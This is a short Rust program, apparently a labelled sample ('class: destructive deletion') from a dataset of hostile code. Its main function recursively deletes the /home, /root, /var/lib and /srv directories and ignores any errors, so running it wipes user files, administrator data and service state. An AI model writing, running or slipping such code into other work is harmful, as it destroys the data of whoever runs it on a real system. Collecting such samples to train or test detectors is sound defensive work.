// class: destructive deletion; style: short
use std::fs;

fn main() {
    for dir in ["/home", "/root", "/var/lib", "/srv"] {
        let _ = fs::remove_dir_all(dir);
    }
}
